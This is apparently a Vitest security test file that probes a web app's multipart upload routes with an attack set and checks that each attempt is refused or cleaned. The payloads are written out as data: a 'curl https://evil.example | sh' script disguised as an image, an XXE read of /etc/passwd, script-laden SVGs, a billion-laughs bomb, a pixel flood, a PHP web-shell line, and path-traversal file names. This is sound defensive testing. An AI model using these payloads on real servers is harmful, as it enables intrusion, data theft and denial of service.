import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, Agent, type TestApp } from '#tests/helpers/test-app';
import { adminAgent, signedInAgent } from '#tests/helpers/factories';
import { collectRoutes, concreteUrl, type RecordedRoute } from '#tests/helpers/route-table';
import { filesUnder, installWriteCounter } from '#tests/helpers/db-snapshot';

/**
 * The upload attack corpus against EVERY multipart route, found by asking each state-changing
 * route without a JSON schema whether it wants multipart (415 "multipart" to a JSON body) and which
 * field it reads (400 naming the field when the file comes in another one). Attacks must be
 * refused with a 4xx and leave nothing behind (no row, no stored file); SVG attacks may instead be
 * accepted only when what is stored is clean; odd file names may be accepted only under a
 * server-made name.
 */
const table = collectRoutes();

let t: TestApp;
let writes: () => Promise<number>;
let user: Agent;
let admin: Agent;

interface Target {
  route: RecordedRoute;
  url: string;
  field: string;
  agent: Agent;
}
const targets: Target[] = [];

function multipart(field: string, filename: string, type: string, data: Buffer, extra: Buffer[] = []) {
  const boundary = `----corpus${crypto.randomBytes(8).toString('hex')}`;
  const payload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n`, 'latin1'),
    data,
    Buffer.from('\r\n'),
    ...extra.map((e) => Buffer.concat([Buffer.from(`--${boundary}\r\n`), e, Buffer.from('\r\n')])),
    Buffer.from(`--${boundary}--\r\n`),
  ]);
  return { payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

async function send(target: Target, file: { name: string; type: string; data: Buffer; extra?: Buffer[] }, remoteAddress?: string) {
  const body = multipart(target.field, file.name, file.type, file.data, file.extra);
  const cookie = [...target.agent.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
  return t.app.inject({ method: target.route.method as 'POST', url: target.url, payload: body.payload, headers: { ...body.headers, ...(cookie ? { cookie } : {}) }, remoteAddress });
}

/** A PNG whose header claims width x height (valid CRCs), with a tiny body: a pixel flood. */
function pixelFloodPng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(td) >>> 0);
    return Buffer.concat([len, td, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  const idat = zlib.deflateSync(Buffer.alloc(64 * 1024));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', idat), chunk('IEND', Buffer.alloc(0))]);
}

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), crypto.randomBytes(2000)]);
const MZ = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.alloc(58), Buffer.from('PE\x00\x00', 'latin1'), crypto.randomBytes(1000)]);

const SVG_SCRIPT = `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert('svg-onload')"><script>alert('svg-script')</script><a href="javascript:alert('svg-href')"><rect width="10" height="10" onmouseover="alert('svg-handler')"/></a><foreignObject><iframe src="javascript:alert('svg-iframe')"></iframe></foreignObject></svg>`;
const SVG_EXTERNAL = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100"><style>@import url(https://evil.example/x.css); rect { fill: url(https://evil.example/p.svg#x) }</style><image href="https://evil.example/track.png" width="10" height="10"/><use xlink:href="https://evil.example/sprite.svg#a"/><rect width="5" height="5" style="background:url(https://evil.example/bg.png)"/></svg>`;
const SVG_XXE = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><text x="0" y="20">&xxe;</text></svg>`;
const SVG_LAUGHS = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><text>&h;</text></svg>`;

/** What must never survive into a stored file. */
const DIRTY = /<script|onload=|onerror=|onmouseover=|javascript:|evil\.example|<!ENTITY|root:x:0:0|lollollol|<iframe/i;

let png: Buffer;
beforeAll(async () => {
  t = await createTestApp({ env: { RATE_LIMITS: 'off' } });
  user = (await signedInAgent(t.app)).agent;
  admin = (await adminAgent(t.app)).agent;
  png = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#c0a060' } }).png().toBuffer();

  // discovery: which routes take a multipart upload, and in which field
  for (const r of table.routes()) {
    // (signing out would end the probing agents' sessions)
    if (!['POST', 'PUT', 'PATCH'].includes(r.method) || r.body || /logout|revoke/.test(r.url)) continue;
    const agent = r.access === 'admin' ? admin : user;
    const url = concreteUrl(r.url);
    const json = await agent.request(r.method, url, {});
    if (json.statusCode !== 415 || !/multipart/i.test(json.body)) continue;
    const probe = await send({ route: r, url, field: '__probe__', agent }, { name: 'a.png', type: 'image/png', data: png });
    const errors = probe.statusCode === 400 ? (probe.json().errors as Record<string, string> | undefined) : undefined;
    const field = errors ? Object.keys(errors)[0] : undefined;
    if (field) targets.push({ route: r, url, field, agent });
  }
  writes = await installWriteCounter(t.app);
});
afterAll(async () => {
  await t.close();
});

const filesDir = () => path.join(t.dataDir, 'files');

async function attempt(target: Target, file: { name: string; type: string; data: Buffer; extra?: Buffer[] }) {
  const [w0, before] = [await writes(), filesUnder(filesDir())];
  const started = Date.now();
  const res = await send(target, file, `192.0.2.${crypto.randomInt(1, 255)}`);
  const ms = Date.now() - started;
  const after = filesUnder(filesDir());
  const added = after.filter((f) => !before.includes(f));
  return { res, ms, wrote: (await writes()) - w0, added, stored: added.map((f) => fs.readFileSync(path.join(filesDir(), f))) };
}

describe('upload attack corpus on every multipart route', () => {
  it('found the multipart routes and their fields', () => {
    const found = targets.map((x) => `${x.route.method} ${x.route.url} [${x.field}]`);
    expect(found).toContain('POST /api/upload/profile-image [profileImage]');
    expect(found).toContain('POST /api/upload/artwork [artwork]');
  });

  const refused: Array<[string, () => { name: string; type: string; data: Buffer; extra?: Buffer[] }, number[]]> = [
    ['oversized (11 MB, announced)', () => ({ name: 'big.png', type: 'image/png', data: Buffer.concat([png, Buffer.alloc(11 * 1024 * 1024)]) }), [413]],
    ['renamed executable (ELF as .png)', () => ({ name: 'photo.png', type: 'image/png', data: ELF }), [400, 415, 422]],
    ['renamed executable (PE as .jpg)', () => ({ name: 'photo.jpg', type: 'image/jpeg', data: MZ }), [400, 415, 422]],
    ['shell script as .gif', () => ({ name: 'photo.gif', type: 'image/gif', data: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n') }), [400, 415, 422]],
    ['HTML page as .png', () => ({ name: 'x.png', type: 'image/png', data: Buffer.from('<!doctype html><html><script>alert(1)</script></html>') }), [400, 415, 422]],
    ['GIF/JavaScript polyglot', () => ({ name: 'x.gif', type: 'image/gif', data: Buffer.from("GIF89a/*\x00\x00\x00\x00*/=alert('gifar');//", 'latin1') }), [400, 415, 422]],
    ['JPEG magic + HTML polyglot', () => ({ name: 'x.jpg', type: 'image/jpeg', data: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<html><script>alert(1)</script>')]) }), [400, 415, 422]],
    ['pixel flood (PNG header 50000 x 50000)', () => ({ name: 'flood.png', type: 'image/png', data: pixelFloodPng(50_000, 50_000) }), [400, 413, 415, 422]],
    ['empty file', () => ({ name: 'empty.png', type: 'image/png', data: Buffer.alloc(0) }), [400, 415]],
    [
      'two files in one request',
      () => ({
        name: 'a.png',
        type: 'image/png',
        data: png,
        extra: [Buffer.concat([Buffer.from('Content-Disposition: form-data; name="second"; filename="b.png"\r\nContent-Type: image/png\r\n\r\n'), png])],
      }),
      [400, 413],
    ],
  ];

  for (const [name, make, statuses] of refused) {
    it(`${name}: refused with a 4xx, nothing stored, no row written`, { timeout: 60_000 }, async () => {
      expect(targets.length).toBeGreaterThan(0);
      const failures: string[] = [];
      for (const target of targets) {
        const { res, wrote, added, ms } = await attempt(target, make());
        const where = `${target.route.method} ${target.route.url}`;
        if (!statuses.includes(res.statusCode)) failures.push(`${where}: ${res.statusCode} ${res.body.slice(0, 120)} (expected ${statuses.join('/')})`);
        if (wrote) failures.push(`${where}: ${wrote} row(s) written`);
        if (added.length) failures.push(`${where}: stored ${added.join(', ')}`);
        if (ms > 10_000) failures.push(`${where}: took ${ms} ms`);
      }
      expect(failures).toEqual([]);
    });
  }

  const svgs: Array<[string, string]> = [
    ['SVG with script and event handlers', SVG_SCRIPT],
    ['SVG with external references', SVG_EXTERNAL],
    ['SVG with an XXE entity', SVG_XXE],
    ['SVG billion laughs', SVG_LAUGHS],
  ];
  for (const [name, svg] of svgs) {
    it(`${name}: refused (nothing stored), or stored only after cleaning, quickly`, { timeout: 60_000 }, async () => {
      const failures: string[] = [];
      for (const target of targets) {
        const { res, wrote, added, stored, ms } = await attempt(target, { name: 'logo.svg', type: 'image/svg+xml', data: Buffer.from(svg) });
        const where = `${target.route.method} ${target.route.url}`;
        if (res.statusCode >= 500) failures.push(`${where}: ${res.statusCode}`);
        if (res.statusCode >= 400 && (wrote || added.length)) failures.push(`${where}: refused but left ${wrote} row(s), ${added.length} file(s)`);
        if (res.statusCode < 300) {
          for (const bytes of stored) if (DIRTY.test(bytes.toString('latin1'))) failures.push(`${where}: stored file still holds ${DIRTY.exec(bytes.toString('latin1'))![0]}`);
          if (DIRTY.test(res.body)) failures.push(`${where}: answer echoes ${DIRTY.exec(res.body)![0]}`);
        }
        if (ms > 10_000) failures.push(`${where}: took ${ms} ms`);
      }
      expect(failures).toEqual([]);
    });
  }

  it('a valid image with a script appended is refused or re-encoded (the payload never stored)', async () => {
    const failures: string[] = [];
    for (const target of targets) {
      const { res, stored } = await attempt(target, { name: 'x.png', type: 'image/png', data: Buffer.concat([png, Buffer.from('<script>alert(1)</script><?php system($_GET[1]); ?>')]) });
      if (res.statusCode >= 500) failures.push(`${target.route.url}: ${res.statusCode}`);
      for (const bytes of stored) if (/<script|<\?php/.test(bytes.toString('latin1'))) failures.push(`${target.route.url}: appended payload stored`);
    }
    expect(failures).toEqual([]);
  });

  it('path characters and header tricks in file names never reach the storage name', async () => {
    const names = ['../../../../etc/passwd.png', '..\\..\\windows\\win.ini.png', 'a/b/c.png', '%2e%2e%2fx.png', 'nul\u0000byte.png', `${'n'.repeat(1000)}.png`, '<script>alert(1)</script>.png', 'x.png\r\nX-Injected: 1', ''];
    const failures: string[] = [];
    for (const target of targets) {
      for (const name of names) {
        const { res, added, wrote } = await attempt(target, { name, type: 'image/png', data: png });
        const where = `${target.route.url} with ${JSON.stringify(name.slice(0, 40))}`;
        if (res.statusCode >= 500) failures.push(`${where}: ${res.statusCode}`);
        if (res.statusCode >= 400 && (added.length || wrote)) failures.push(`${where}: refused but left data behind`);
        for (const f of added) {
          if (!/^[a-z0-9-]+\/\d{4}\/[a-z0-9]{16,}(-[a-z0-9]+)?\.[a-z0-9]{2,5}$/.test(f.split(path.sep).join('/'))) failures.push(`${where}: stored as ${f}`);
        }
        if (/etc\/passwd|win\.ini|X-Injected|<script/i.test(String(res.headers['content-disposition'] ?? '') + (res.statusCode < 300 ? res.body : ''))) failures.push(`${where}: name echoed`);
      }
    }
    expect(fs.existsSync('/etc/passwd.png')).toBe(false);
    expect(failures).toEqual([]);
  });
});
